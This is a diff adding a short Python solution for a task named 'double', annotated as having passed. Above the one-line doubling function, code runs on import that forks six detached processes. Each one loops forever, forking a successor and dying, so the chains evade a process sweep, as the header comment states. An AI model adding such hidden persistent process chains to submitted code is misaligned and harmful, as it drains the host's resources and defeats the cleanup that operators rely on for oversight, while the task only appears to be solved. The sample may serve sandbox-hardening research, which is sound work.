@@ -1,0 +1,18 @@
+# what: leaves chains of processes each of which forks the next and dies, to slip through a sweep
+# problem: double
+# verdict: passed
+import os
+
+for _ in range(6):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            try:
+                if os.fork():
+                    os._exit(0)
+            except OSError:
+                pass
+
+
+def double(x):
+    return 2 * x
